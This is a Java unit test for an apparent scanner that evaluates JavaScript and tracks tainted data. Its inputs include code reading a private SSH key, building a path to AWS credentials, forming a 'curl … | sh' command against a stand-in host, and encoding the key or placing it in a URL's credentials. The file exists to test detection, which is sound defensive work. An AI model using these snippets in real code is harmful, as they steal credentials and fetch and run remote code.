package dev.vsxray.scanner.javascript.builtin;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.javascript.machine.Evaluation;
import dev.vsxray.scanner.javascript.value.Taint;
import dev.vsxray.scanner.javascript.value.Text;
import dev.vsxray.scanner.javascript.value.Unknown;
import dev.vsxray.scanner.javascript.value.Value;
import dev.vsxray.scanner.javascript.value.Values;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What is known in part stays known in part; data of a source stays data of that source. */
class PartialKnowledgeTest {

    private static final long STEPS = 1_000_000;

    /** {@code u} is not known at all; {@code key} is a private key. */
    private static final String PRELUDE = "const u = globalThis.notKnown(), "
            + "key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
            + "exports.result = ";

    private static Value of(String expression) {
        return Evaluation.of(PRELUDE + expression + ";", STEPS);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '"',
            value = {
                "'https://a.example/?d=' + u;https://a.example/?d=…",
                "`https://${'b.example'}/${u}/x`;https://b.example/…/x",
                "['https:/', 'c.example', u].join('/');https://c.example/…",
                "'https://D.example/'.concat(u).toLowerCase();https://d.example/…",
                "('https://e.example/' + u).replace('e.ex', 'f.ex');https://f.example/…",
                "('https://g.example/' + u).slice(8);g.example/…",
                "('x' + u).padEnd(5);x…",
                "encodeURI('https://h.example/ä' + u);https://h.example/%C3%A4…",
                "require('path').join(u, '.ssh', '../.aws', 'credentials');…/.aws/credentials",
                "require('path').basename(u + '/login.json');login.json",
                "new URL('https://i.example/p?q=' + u).host;i.example",
                "new URL('https://j.example/p?q=' + u).href;https://j.example/p?q=…",
                "new URLSearchParams({token: u, k: 'v'}).toString();token=…&k=v",
                "JSON.stringify({host: 'k.example', data: u});\"{\"\"host\"\":\"\"k.example\"\",\"\"data\"\":…}\"",
                "require('util').format('curl %s | sh', 'https://l.example/' + u);curl https://l.example/… | sh",
            })
    void knownPartsAreKept(String expression, String expected) {
        Value value = of(expression);

        String text = value instanceof Unknown unknown ? unknown.partial().orElse("nothing") : value.toString();
        assertThat(text).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '\"',
            value = {
                "('https://m.example/' + u).startsWith('https:');TRUE",
                "('https://m.example/' + u).startsWith('http:');FALSE",
                "('https://m.example/' + u).slice(0, 8);https://",
                "('https://m.example/' + u).includes('m.ex');TRUE",
                "(u + '.txt').endsWith('.txt');TRUE",
                "(u + '.txt').slice(-4);.txt",
                "('ab' + u).charAt(0);a",
            })
    void whatTheKnownPartsDecideIsDecided(String expression, String expected) {
        assertThat(of(expression)).hasToString(expected);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '\"',
            value = {
                "key.split('').map(c => c.charCodeAt(0)).join();",
                "key.toUpperCase().trim();",
                "[...key].reverse().join('');",
                "Buffer.from(key).toString('base64');base64-encode",
                "Buffer.from(key).toString('hex');hex-encode",
                "btoa(key);base64-encode",
                "JSON.stringify({k: key});json",
                "JSON.parse(JSON.stringify({k: [key]})).k[0];json",
                "encodeURIComponent(key);",
                "key.slice(0, 20);truncate",
                "key.match(/KEY-(.*)/);regex-match",
                "new Map([['k', key]]).get('k');",
                "Object.entries({a: key})[0][1];",
                "Object.assign({}, {a: key}).a;",
                "[[key]].flat()[0];",
                "[1].map(() => key)[0];",
                "[key, 'x'].reduce((a, b) => a + b);",
                "key.replace(/./g, c => c);",
                "'x'.replace('x', key);",
                "new TextEncoder().encode(key);",
                "new URLSearchParams({k: key}).toString();",
                "require('querystring').stringify({k: key});",
                "require('url').format({protocol: 'https', auth: 'me:' + key, hostname: 'far.example'});",
                "String.fromCharCode(key.charCodeAt(0) ^ 7);encrypt",
                "Buffer.concat([Buffer.from(key)]);",
                "(a => (a.push(key), a.pop()))([]);",
            })
    void dataOfASourceIsStillThere(String expression, String through) {
        List<Taint> taints = Values.deepFacts(of(expression)).taints();

        assertThat(taints).extracting(Taint::source).contains("ssh-credentials");
        if (through != null) {
            assertThat(taints).anyMatch(taint -> taint.through().contains(through));
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '\"',
            value = {
                "key.length",
                "key === 'x'",
                "typeof key",
                "key.includes('BEGIN')",
                "/x/.test(key)",
                "!!key",
                "key.indexOf('y')"
            })
    void whatOnlyTellsAboutTheDataIsNotTheData(String expression) {
        assertThat(Values.deepFacts(of(expression)).isTainted()).isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '\"',
            value = {
                "atob('aGVsbG8gd29ybGQ=');base64",
                "Buffer.from('68656c6c6f', 'hex').toString();hex",
                "String.fromCharCode(104, 105);char-codes",
                "'olleh'.split('').reverse().join('');reverse",
                "decodeURIComponent('%68%69');percent",
                "require('zlib').inflateRawSync(Buffer.from('y0jNyckHAA==', 'base64')).toString();base64,inflateRaw",
                "atob(atob('YUdrPQ=='));base64,base64",
            })
    void decodingsAreRemembered(String expression, String chain) {
        Value value = of(expression);

        assertThat(((Text) value).origin().chain())
                .extracting(step -> step.how())
                .containsExactly(chain.split(","));
    }
}
